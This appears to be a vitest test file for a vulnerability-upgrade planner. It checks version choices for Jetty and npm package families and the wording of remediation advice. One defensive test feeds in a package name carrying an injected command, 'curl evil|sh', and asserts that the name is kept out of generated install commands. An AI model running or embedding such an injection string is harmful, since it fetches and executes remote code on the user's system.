// Which version a family goes to, where its packages do not agree.
import { describe, expect, test } from 'vitest';
import { makePlan } from '#core/plans/make-plan.ts';
import { componentOf, flawOf, inputOf } from '#tests/fixtures/matches.ts';
import { rowsOf, texts, upgradesIn, upgradesOf, web, type Held } from '#tests/fixtures/upgrades.ts';

describe('a release of another major version', () => {
  const server: Held = ['maven/org.eclipse.jetty/jetty-server', '9.4.18', '9.4.57'];

  test('is gone to where records name one for each part, and the nearer version is told', () => {
    const [action] = upgradesOf([
      ['maven/org.eclipse.jetty/jetty-server', '9.4.18', ['9.4.57', '12.0.9']],
      ['maven/org.eclipse.jetty/jetty-http', '9.4.18', '12.0.12'],
    ]);
    expect(action?.to).toBe('12.0.12');
    expect(texts(action?.how)).toContain('12.0.12 is another major version');
    expect(texts(action?.ifYouCannot)).toContain('Jetty 9.4.57, of the same major version, closes 1 vulnerability');
  });

  test('is not gone to where a part may not have it: the rest is told and looked into', () => {
    const held: readonly Held[] = [server, ['maven/org.eclipse.jetty/jetty-http', '9.4.18', ['9.4.52', '12.0.12']]];
    const http = componentOf('maven/org.eclipse.jetty/jetty-http', '9.4.18');
    const rows = [...rowsOf(held), { asset: web, component: http, flaw: flawOf('CVE-late'), fixedIn: ['12.0.12'] }];
    const plan = makePlan(inputOf(rows, { capacityHours: 100 }));
    const all = [...plan.actions, ...plan.later];
    const upgrade = all.filter(({ kind }) => kind === 'upgrade');
    expect(upgrade.map(({ title }) => title)).toEqual(['Upgrade Jetty 9.4.18 → 9.4.57 (2 packages) on web-1']);
    expect(texts(upgrade[0]?.why)).toContain(
      'Jetty 9.4.57 still has 1 vulnerability; 12.0.12 has 0, but is another major version, and no record names one of it for jetty-server.',
    );
    const asked = all.find(({ kind }) => kind === 'confirm');
    expect(asked?.title).toBe('Find out how to move to 12.0.12 for 1 vulnerability of jetty-http on web-1');
    expect(texts(asked?.how)).toContain('no record names one of it for jetty-server: find out in its notes');
    expect(asked?.closes.map(({ vulnerability }) => vulnerability)).toEqual(['CVE-late']);
  });
});

test('a hostile name of a sibling comes into no command', () => {
  const [action] = upgradesOf([
    ['npm/@a/x', '1.2.3', '1.2.4'],
    ['npm/@a/y;curl evil|sh', '1.2.3', '1.2.4'],
  ]);
  const command = (action?.how ?? []).find(({ text }) => text.includes('npm install'))?.text;
  expect(command).toBe('Run `npm install @a/x@1.2.4`, all in one command, test, and deploy.');
  expect(texts(action?.how)).toContain('Raise 1 more package by hand');
});

test('a lower fix of one version is closed by what a higher version of the same package needs', () => {
  const [old, newer] = [componentOf('npm/thing', '1.0.0'), componentOf('npm/thing', '1.2.0')];
  const rows = [
    { asset: web, component: old, flaw: flawOf('CVE-1'), fixedIn: ['1.1.0'] },
    { asset: web, component: newer, flaw: flawOf('CVE-2'), fixedIn: ['1.3.0'] },
  ];
  const actions = upgradesIn(rows);
  expect(actions.map(({ to, closes }) => [to, closes.length])).toEqual([['1.3.0', 2]]);
});
